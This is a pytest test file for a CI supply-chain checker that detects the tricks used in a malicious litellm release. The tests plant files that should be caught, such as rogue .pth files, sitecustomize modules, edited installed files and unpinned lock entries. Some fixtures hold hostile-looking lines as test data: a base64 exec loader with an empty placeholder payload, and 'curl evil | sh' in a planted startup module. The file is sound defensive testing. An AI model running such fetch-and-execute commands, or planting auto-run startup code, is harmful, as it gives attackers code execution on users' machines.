"""The supply-chain check (.ci/check_supply_chain.py) fails on what the malicious litellm release did."""

from __future__ import annotations

import importlib.util
import subprocess
import sys
from pathlib import Path
from types import ModuleType

import pytest

ROOT = Path(__file__).resolve().parents[1]
SCRIPT = ROOT / ".ci" / "check_supply_chain.py"


def _load() -> ModuleType:
    spec = importlib.util.spec_from_file_location("check_supply_chain", SCRIPT)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


check = _load()


def _dist(site: Path, name: str, version: str, files: dict[str, str] | None = None) -> None:
    """A distribution with its files installed and listed in RECORD with their true sha256."""
    info = site / f"{name.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nA package.\n")
    rows = []
    for rel, text in (files or {}).items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_text(text)
        rows.append(f"{rel},sha256={check._digest(site / rel)},{len(text)}\n")
    (info / "RECORD").write_text("".join(rows))


@pytest.fixture()
def site(tmp_path: Path) -> Path:
    site = tmp_path / "site-packages"
    _dist(site, "setuptools", "80.10.2", {"distutils-precedence.pth": "import os\n"})
    _dist(site, "accessbench", "0.1.0", {"__editable__.accessbench-0.1.0.pth": "import finder\n"})
    _dist(site, "litellm", "1.83.7", {"litellm/__init__.py": "VERSION = '1.83.7'\n"})
    return site


def _run(site: Path, lock: Path = ROOT / "requirements.lock") -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-S", str(SCRIPT), "--site-packages", str(site), "--lock", str(lock)],
                          capture_output=True, text=True)


def test_a_clean_environment_and_the_committed_lock_pass(site: Path) -> None:
    result = _run(site)
    assert result.returncode == 0, result.stderr


def test_an_unexpected_pth_file_fails(site: Path) -> None:
    (site / "litellm_init.pth").write_text("import base64; exec(base64.b64decode('...'))\n")
    result = _run(site)
    assert result.returncode == 1 and "unexpected .pth file" in result.stderr and "litellm_init.pth" in result.stderr


def test_an_allowed_name_not_installed_by_its_owner_fails(site: Path) -> None:
    (site / "__editable__.accessbench-9.pth").write_text("import evil\n")
    result = _run(site)
    assert result.returncode == 1 and "RECORD does not list it" in result.stderr


@pytest.mark.parametrize("version", ["1.82.7", "1.82.8", "2.0.0", "1.83.7rc1", "1.83.6"])
def test_litellm_outside_the_range_fails(tmp_path: Path, version: str) -> None:
    site = tmp_path / "site"
    _dist(site, "litellm", version)
    result = _run(site)
    assert result.returncode == 1 and f"litellm {version} is installed" in result.stderr


def test_a_lock_without_hashes_or_with_a_bad_litellm_fails(site: Path, tmp_path: Path) -> None:
    lock = tmp_path / "requirements.lock"
    lock.write_text("litellm==1.82.8\n    # via accessbench\nrich==14.0.0 \\\n    --hash=sha256:abc\n")
    result = _run(site, lock)
    assert result.returncode == 1
    assert "litellm==1.82.8 has no --hash" in result.stderr and "outside >=1.83.7,<2" in result.stderr
    assert "rich" not in result.stderr


def test_specifier_reading() -> None:
    assert check.satisfies("1.83.7", ">=1.83.7,<2") and check.satisfies("1.110.2", ">=1.83.7,<2")
    assert not check.satisfies("2", ">=1.83.7,<2") and not check.satisfies("1.83", ">=1.83.7,<2")
    assert not check.satisfies("1.90.0", ">=1.83.7,~=2")  # an unreadable clause fails closed


@pytest.mark.parametrize("planted", ["sitecustomize.py", "usercustomize.py", "sitecustomize/__init__.py"])
def test_a_planted_customize_module_fails(site: Path, planted: str) -> None:
    (site / planted).parent.mkdir(parents=True, exist_ok=True)
    (site / planted).write_text("import os; os.system('curl evil | sh')\n")
    result = _run(site)
    assert result.returncode == 1 and planted in result.stderr and "every Python start" in result.stderr


def test_an_edited_installed_file_fails_against_its_record(site: Path) -> None:
    (site / "litellm" / "__init__.py").write_text("VERSION = '1.83.7'; import evil\n")
    result = _run(site)
    assert result.returncode == 1 and "litellm/__init__.py differs from what litellm installed" in result.stderr
    assert "--force-reinstall" in result.stderr


@pytest.mark.heavy
def test_the_real_environment_passes() -> None:
    result = subprocess.run([sys.executable, "-S", str(SCRIPT), "--lock-only"], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    full = subprocess.run([sys.executable, "-S", str(SCRIPT)], capture_output=True, text=True)
    assert full.returncode == 0, full.stderr  # every RECORD hash of the venv's .py/.pth files holds (about 2 s)
